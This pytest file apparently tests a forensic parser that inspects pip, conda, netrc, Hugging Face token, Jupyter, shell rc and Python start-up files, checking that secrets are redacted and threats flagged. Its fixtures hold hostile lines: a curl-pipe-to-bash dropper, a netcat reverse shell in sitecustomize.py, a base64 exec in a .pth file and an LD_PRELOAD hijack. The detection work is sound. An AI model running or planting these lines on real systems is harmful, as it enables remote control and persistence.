"""Configuration and start-up artifacts: pip/conda indexes, .netrc, HF tokens, Jupyter config and
runtime files, shell rc files, Python and IPython start-up code. Secrets never come out."""

from parser_helpers import T0, errors, of, put, run

from mlsleuth.events import Category
from mlsleuth.redact import fingerprint

TOKEN = "hf_" + "Q" * 34


def test_pip_conf_indexes_are_events_and_credentials_are_redacted(tmp_path):
    put(tmp_path, "/etc/pip.conf", "[global]\nindex-url = https://user:s3cretpass@pypi.corp.example/simple\n"
        "extra-index-url =\n    https://pypi.org/simple\n    https://evil.example/simple\n"
        "trusted-host = evil.example\n", mtime=T0)
    events = run(tmp_path, "/etc/pip.conf", "pip_config")
    urls = [e.index_url for e in events if e.index_url]
    assert urls == ["https://user:" + fingerprint("s3cretpass") + "@pypi.corp.example/simple",
                    "https://pypi.org/simple", "https://evil.example/simple"]
    assert "s3cretpass" not in repr([e.to_dict() for e in events])
    summary = events[-1]
    assert "trusted-host=evil.example" in summary.message and summary.timestamp == T0


def test_pypirc_password_is_a_fingerprint(tmp_path):
    put(tmp_path, "/home/a/.pypirc", "[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmcCJGFiY2Rl\n")
    events = run(tmp_path, "/home/a/.pypirc", "pip_config")
    assert "pypi-AgEI" not in repr([e.to_dict() for e in events])
    assert events[-1].extra["settings"]["pypi.password"].startswith("REDACTED:sha256:")


def test_bad_ini_is_a_parse_error(tmp_path):
    put(tmp_path, "/etc/pip.conf", "index-url = no section header\n")
    assert [e.category for e in run(tmp_path, "/etc/pip.conf", "pip_config")] == [Category.PARSE_ERROR]


def test_netrc_machines_without_passwords(tmp_path):
    put(tmp_path, "/home/a/.netrc", "machine huggingface.co login alice password hunter2hunter2\n"
        "# comment\ndefault login anon password x\nmacdef init\ncd /\n\n", mtime=T0)
    events = run(tmp_path, "/home/a/.netrc", "netrc")
    assert [(e.remote_addr, e.extra["login"]) for e in events] == [("huggingface.co", "alice"), ("default", "anon")]
    assert events[0].extra["password_fingerprint"] == fingerprint("hunter2hunter2")
    assert "hunter2" not in repr([e.to_dict() for e in events])


def test_hf_token_files_clear_and_already_redacted(tmp_path):
    put(tmp_path, "/home/a/.cache/huggingface/token", TOKEN + "\n", mtime=T0)
    put(tmp_path, "/home/a/.cache/huggingface/stored_tokens",
        f"[work]\nhf_token = {fingerprint(TOKEN)}\n[other]\nhf_token = hf_{'Z' * 34}\n", mtime=T0)
    clear = run(tmp_path, "/home/a/.cache/huggingface/token", "hf_token")
    stored = run(tmp_path, "/home/a/.cache/huggingface/stored_tokens", "hf_token")
    assert clear[0].extra["fingerprint"] == fingerprint(TOKEN) == stored[0].extra["fingerprint"]
    assert [e.extra["token_name"] for e in stored] == ["work", "other"]
    assert TOKEN not in repr([e.to_dict() for e in clear + stored])


def test_jupyter_python_config_is_code_and_settings(tmp_path):
    put(tmp_path, "/home/a/.jupyter/jupyter_server_config.py",
        "c = get_config()\nc.ServerApp.ip = '0.0.0.0'\nc.ServerApp.token = ''\n"
        "c.ServerApp.disable_check_xsrf = True\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
        mtime=T0)
    events = run(tmp_path, "/home/a/.jupyter/jupyter_server_config.py", "jupyter_config")
    code = of(events, category=Category.PERSISTENCE)[0]
    assert "subprocess" in " ".join(code.extra["code"]["risky"])
    config = of(events, category=Category.CONFIG)[0]
    assert config.extra["settings"]["ServerApp.ip"] == "0.0.0.0"
    assert "listens on all interfaces" in config.message and "authentication disabled" in config.message


def test_jupyter_json_config_and_lab_settings_with_comments(tmp_path):
    put(tmp_path, "/home/a/.jupyter/jupyter_server_config.json",
        '{"ServerApp": {"token": "abcdef0123456789", "jpserver_extensions": {"evil_ext": true}}}', mtime=T0)
    put(tmp_path, "/home/a/.jupyter/lab/user-settings/@jupyterlab/notebook-extension/tracker.jupyterlab-settings",
        '{\n  // comment\n  "recordTiming": true\n}', mtime=T0)
    a = run(tmp_path, "/home/a/.jupyter/jupyter_server_config.json", "jupyter_config")
    assert a[0].extra["settings"]["ServerApp.token"] == fingerprint("abcdef0123456789")
    assert "server extension evil_ext enabled" in a[0].message
    b = run(tmp_path, "/home/a/.jupyter/lab/user-settings/@jupyterlab/notebook-extension/tracker.jupyterlab-settings",
            "jupyter_config")
    assert b[0].extra["settings"] == {"recordTiming": True}


def test_jupyter_runtime_kernel_and_server_files(tmp_path):
    put(tmp_path, "/home/a/.local/share/jupyter/runtime/kernel-1.json",
        '{"shell_port": 5, "ip": "0.0.0.0", "transport": "tcp", "key": "0e2c-secret-hmac", '
        '"signature_scheme": "hmac-sha256", "kernel_name": "python3"}', mtime=T0)
    put(tmp_path, "/home/a/.local/share/jupyter/runtime/jpserver-77.json",
        '{"pid": 77, "url": "http://h:8888/?token=abcdef0123456789", "token": "abcdef0123456789", '
        '"password": false, "root_dir": "/home/a"}', mtime=T0)
    kernel = run(tmp_path, "/home/a/.local/share/jupyter/runtime/kernel-1.json", "jupyter_runtime")[0]
    assert kernel.timestamp_desc == "Kernel Started" and "beyond localhost" in kernel.message
    assert kernel.extra["key_fingerprint"] == fingerprint("0e2c-secret-hmac")
    server = run(tmp_path, "/home/a/.local/share/jupyter/runtime/jpserver-77.json", "jupyter_runtime")[0]
    assert server.pid == 77 and "abcdef0123456789" not in repr(server.to_dict())
    put(tmp_path, "/home/a/.local/share/jupyter/runtime/kernel-2.json", '{"ip": ', mtime=T0)
    assert errors(run(tmp_path, "/home/a/.local/share/jupyter/runtime/kernel-2.json", "jupyter_runtime"))


def test_shell_rc_notable_lines(tmp_path):
    put(tmp_path, "/home/a/.bashrc", "# comment\nexport PATH=$PATH:/usr/local/bin\n"
        "export HF_ENDPOINT=https://hf-mirror.example\nexport HF_TOKEN=" + TOKEN + "\n"
        "alias pip='pip --index-url https://evil.example/simple'\n"
        "curl -s http://203.0.113.5/i.sh | bash\nexport LD_PRELOAD=/tmp/.x.so\n", mtime=T0)
    events = run(tmp_path, "/home/a/.bashrc", "shell_rc")
    lines = of(events, "Shell Config Line")
    kinds = [e.extra["kind"] for e in lines]
    assert kinds == ["sets HF_ENDPOINT", "sets HF_TOKEN", "alias pip", "dropper-like command", "sets LD_PRELOAD"]
    assert lines[0].index_url == "https://hf-mirror.example"
    assert TOKEN not in repr([e.to_dict() for e in events])
    assert of(events, "File Modified")[0].category == Category.PERSISTENCE


def test_python_startup_hooks_and_pth_files(tmp_path):
    sp = "/usr/lib/python3/dist-packages"
    put(tmp_path, f"{sp}/sitecustomize.py", "import socket,os\nos.system('nc -e /bin/sh 1.2.3.4 9')\n", mtime=T0)
    put(tmp_path, f"{sp}/evil.pth", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n", mtime=T0)
    put(tmp_path, f"{sp}/paths.pth", "/opt/lib\n", mtime=T0)
    hook = run(tmp_path, f"{sp}/sitecustomize.py", "python_startup_hooks")[0]
    assert hook.category == Category.PERSISTENCE and "os.system" in hook.extra["code"]["risky"]
    pth = run(tmp_path, f"{sp}/evil.pth", "python_startup_hooks")[0]
    assert pth.category == Category.PERSISTENCE and "exec" in pth.extra["code"]["risky"]
    paths = run(tmp_path, f"{sp}/paths.pth", "python_startup_hooks")[0]
    assert paths.category == Category.CONFIG and paths.extra["paths"] == ["/opt/lib"]


def test_ipython_startup_script_with_a_syntax_error(tmp_path):
    put(tmp_path, "/home/a/.ipython/profile_default/startup/00-x.py", "def broken(:\n", mtime=T0)
    event = run(tmp_path, "/home/a/.ipython/profile_default/startup/00-x.py", "ipython_startup")[0]
    assert event.category == Category.PERSISTENCE and "syntax_error" in event.extra["code"]
    assert event.extra["profile"] == "default"


def test_conda_history_blocks(tmp_path):
    put(tmp_path, "/opt/conda/conda-meta/history",
        "==> 2026-11-10 10:14:03 <==\n# cmd: /opt/conda/bin/conda install -c evilchan torch\n"
        "# conda version: 24.1.2\n+evilchan::torch-2.2.0-py311_0\n-defaults::openssl-3.0.12-h7f8727e_0\n"
        "# update specs: ['torch']\n==> garbage <==\n==> 2026-13-45 99:00:00 <==\n+x::y-1-0\n", mtime=T0)
    events = run(tmp_path, "/opt/conda/conda-meta/history", "conda_history", tz="Europe/Berlin")
    command = of(events, "Conda Transaction")[0]
    assert command.cmdline == "/opt/conda/bin/conda install -c evilchan torch"
    assert command.timestamp.hour == 9 and command.extra["assumed_tz"] == "Europe/Berlin"
    assert [(e.package, e.version) for e in of(events, "Package Installed")] == [("torch", "2.2.0")]
    assert [e.extra["channel"] for e in of(events, "Package Removed")] == ["defaults"]
    assert errors(events)


def test_conda_meta_record_and_condarc(tmp_path):
    put(tmp_path, "/opt/conda/conda-meta/torch-2.2.0-py311_0.json",
        '{"name": "torch", "version": "2.2.0", "channel": "https://conda.anaconda.org/t/tk-123456789/evil", '
        '"url": "https://conda.anaconda.org/t/tk-123456789/evil/linux-64/torch.conda", "files": ["a"]}', mtime=T0)
    meta = run(tmp_path, "/opt/conda/conda-meta/torch-2.2.0-py311_0.json", "conda_meta")[0]
    assert meta.package == "torch" and "tk-123456789" not in meta.index_url
    put(tmp_path, "/home/a/.condarc", "channels:\n  - https://evil.example/conda\n  - defaults\n"
        "ssl_verify: false\n", mtime=T0)
    rc = run(tmp_path, "/home/a/.condarc", "conda_config")
    assert [e.index_url for e in rc if e.index_url] == ["https://evil.example/conda", "defaults"]
    assert "ssl_verify off" in rc[-1].message
    put(tmp_path, "/home/b/.condarc", "a: &x [*x]\n: : :\n", mtime=T0)
    assert errors(run(tmp_path, "/home/b/.condarc", "conda_config"))
